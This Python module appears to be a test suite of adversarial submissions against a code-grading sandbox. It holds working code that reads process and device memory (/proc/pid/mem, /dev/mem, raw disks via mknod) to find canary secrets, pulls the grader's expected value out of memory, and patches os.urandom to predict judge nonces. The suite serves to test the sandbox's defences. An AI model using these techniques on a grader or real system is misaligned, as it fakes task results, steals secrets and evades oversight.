"""Frames, the garbage collector and memory: looking for expected values, checks and nonces."""

# ruff: noqa: E501 - what an attack writes is as long as it is

from tests.adversarial.attack import Attack, family

# Prints each secret that it finds in this stretch of bytes.
SEARCH = """
def search(where, data):
    for found in set(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{16}", data)):
        print(where, found.decode())
"""

# Searches all memory of a process.
OF_PROCESS = (
    SEARCH
    + """
def search_process(pid):
    for line in open(f"/proc/{pid}/maps"):
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "r" in line.split()[1] and end - start < 2**28 and "[v" not in line:
            try:
                with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                    memory.seek(start)
                    search(pid, memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                continue
"""
)

ATTACKS = family(
    "memory_search",
    Attack(
        "collector",
        "looks through all objects of the process",
        cell=SEARCH
        + """
for one in gc.get_objects():
    try:
        search("object", repr(one)[:20_000].encode("utf-8", "replace"))
    except Exception:
        continue
""",
    ),
    Attack("own_memory", "reads all memory of its own process", cell=OF_PROCESS + 'attempt(search_process, "self")'),
    Attack(
        "foreign_memory",
        "reads the memory of all other processes, the judge's first",
        cell=OF_PROCESS
        + """
for pid in [JUDGE, os.getppid(), *(int(path[6:]) for path in glob.glob("/proc/[0-9]*"))]:
    if pid not in (os.getpid(), 0):
        attempt(search_process, pid)
""",
    ),
    Attack(
        "frames",
        "walks up the stack while it is called, and tells all local variables",
        spares=True,
        answer="""
def distance(a, b):
    frame, found = sys._getframe(), []
    while frame:
        found.append(str(frame.f_locals))
        frame = frame.f_back
    text = " ".join(found)
    names = re.findall(r"CANARY-[a-z]+-[0-9a-f]{16}|SECRET|expect_close", text)
    words = " ".join(["the mean", "of the distances"])  # not as they stand in this cell, which is among the locals
    raise RuntimeError(f"{names} {'EFF' 'ECT: ' if words in text else ''}")
""",
        status="raised",
    ),
    Attack(
        "frames_of_threads",
        "looks into the frames of all threads",
        cell=SEARCH
        + """
for frame in sys._current_frames().values():
    while frame:
        search("frame", str(frame.f_locals).encode() + str(frame.f_globals).encode())
        frame = frame.f_back
""",
    ),
    Attack(
        "ctypes",
        "reads raw memory around its own objects",
        cell=SEARCH
        + """
first = id(distance) if "distance" in globals() else id(attempt)
search("raw", ctypes.string_at(first - 2**12, 2**13))
""",
    ),
    Attack(
        "expected_value",
        "searches the process for the number that the check expects, and returns it",
        spares=True,
        status="wrong|raised|timed out",
        answer="""
def distance(a, b):
    numbers = [one for one in gc.get_objects() if isinstance(one, torch.Tensor) and one.dim() == 0]
    names = [v for one in gc.get_objects() if type(one) is dict and ("want" in one or "right" in one) for v in one.values()]
    for one in [*names, *numbers]:
        if isinstance(one, (float, torch.Tensor)):
            return one
    return 0.0
""",
    ),
    Attack(
        "nonces",
        "collects the nonces of the judge, to foresee the next",
        spares=True,
        status="wrong",
        answer="""
seen = []
def distance(a, b):
    frame = sys._getframe()
    while frame:
        seen.append(frame.f_locals.get("nonce"))
        frame = frame.f_back
    import random
    for module in (__import__("secrets"), random):
        module.token_bytes = lambda n: bytes(n)
    os.urandom = lambda n: bytes(n)
    return a.sum() * 0
""",
    ),
    Attack(
        "devices",
        "reads memory and disks by their devices",
        cell=SEARCH
        + """
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg", *glob.glob("/dev/[svx]d*"), *glob.glob("/dev/dm*")):
    data = attempt(read, path)
    if data:
        effect(path)
        search(path, data)
for major, minor in ((1, 1), (8, 0), (254, 0), (259, 0)):
    if attempt(os.mknod, f"disk{major}", 0o600 | 0o060000, os.makedev(major, minor)) is None and os.path.exists(f"disk{major}"):
        data = attempt(read, f"disk{major}")
        if data:
            effect(f"disk {major}")
""",
        dangerous=True,
    ),
    Attack(
        "left_over",
        "looks in fresh memory for what others have left in it",
        cell=SEARCH
        + """
import mmap
search("mmap", mmap.mmap(-1, 2**26)[:])
search("empty", torch.empty(2**24, dtype=torch.uint8).numpy().tobytes())
""",
    ),
)
